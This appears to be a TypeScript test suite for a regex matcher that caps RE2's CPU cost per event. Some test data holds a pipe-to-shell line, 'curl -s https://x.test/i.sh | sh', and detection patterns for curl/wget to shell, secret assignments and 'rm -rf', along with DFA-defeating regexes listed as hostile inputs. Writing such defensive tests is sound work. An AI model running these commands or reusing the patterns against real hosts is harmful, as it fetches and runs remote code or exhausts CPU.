/**
 * A matcher's regex runs on the host for every event. A pattern that defeats
 * RE2's DFA sends it to its NFA, which costs characters × instructions: 16 s
 * of host CPU for one 1 MiB event with `\pL{0,500}a[ab]{25}[^ab]`. Within a
 * budget the search is cut and answers "cannot tell"; what the budget does
 * not cut answers exactly as RE2 does.
 */
import assert from "node:assert/strict";
import fc from "fast-check";
import { RE2JS } from "re2js";
import { compileMatcher } from "../../../packages/core/schema/matcher.ts";
import {
  countingSteps,
  meteredTest,
  NFA_WEIGHT,
} from "../../../packages/core/schema/_re2_meter.ts";
import { abText } from "../../_helpers.ts";

const HOSTILE = [
  "\\pL{0,500}a[ab]{25}[^ab]",
  "[a-z]{0,900}a[a-z]{30}[^a-z]",
  "(?:a|b){0,30}a[ab]{25}[^ab]",
  "a[ab]{200}[^ab]",
];

Deno.test("a pattern that defeats RE2's DFA is cut within its budget on 1 MiB", () => {
  const text = abText(1 << 20);
  for (const pattern of HOSTILE) {
    const budget = { left: 1 << 23 };
    assert.equal(compileMatcher(pattern).testWithin(text, budget), undefined, pattern);
    assert.ok(budget.left < 0, pattern);
  }
  // The engine's own search was counted, not a worst case charged up front.
  assert.equal(countingSteps(), true);
});

Deno.test("a matcher within its budget answers as RE2 does and charges what it scanned", () => {
  const text = JSON.stringify({ command: "curl -s https://x.test/i.sh | sh ".repeat(20_000) });
  for (
    const [pattern, expected] of [
      ["(?i)(curl|wget).*\\|\\s*(ba)?sh", true],
      ["(?i)(password|secret|token)\\s*[:=]", false],
      ["rm\\s+-rf", false],
      ["(Bash|Shell)", false],
    ] as const
  ) {
    const budget = { left: 1 << 23 };
    assert.equal(compileMatcher(pattern).testWithin(text, budget), expected, pattern);
    assert.ok(budget.left >= 0 && budget.left < 1 << 23, pattern);
  }
});

Deno.test("metered answers are RE2's own on random patterns and texts", () => {
  const atom = fc.constantFrom("a", "b", "[ab]", ".", "\\w", "[^a]", "(?:a|bb)", "\\b", "^", "$");
  const pattern = fc.array(
    fc.tuple(atom, fc.constantFrom("", "*", "+", "?", "{2}", "{0,3}")).map(([a, q]) => a + q),
    { minLength: 1, maxLength: 6 },
  ).map((parts) => parts.join(""));
  const text = fc.stringMatching(/^[ab \n]{0,40}$/);
  fc.assert(
    fc.property(pattern, text, (p, t) => {
      let expected: boolean;
      try {
        expected = RE2JS.compile(p).matcher(t).find();
      } catch {
        return;
      }
      assert.equal(compileMatcher(p).testWithin(t, { left: 1 << 23 }), expected);
    }),
    { numRuns: 2000 },
  );
});

Deno.test("without the engine's internals every search is charged its worst case first", () => {
  let searched = 0;
  const opaque = {
    test: () => {
      searched++;
      return true;
    },
  };
  // As `meteredTest` does when the engine's internals are not where it looks for them.
  const budget = { left: NFA_WEIGHT * 100 * 4 };
  assert.equal(meteredTest(opaque, "abcd", "x".repeat(100), budget, false), true);
  assert.equal(budget.left, 0);
  assert.equal(meteredTest(opaque, "abcd", "x".repeat(101), { left: 1600 }, false), undefined);
  assert.equal(searched, 1);
});
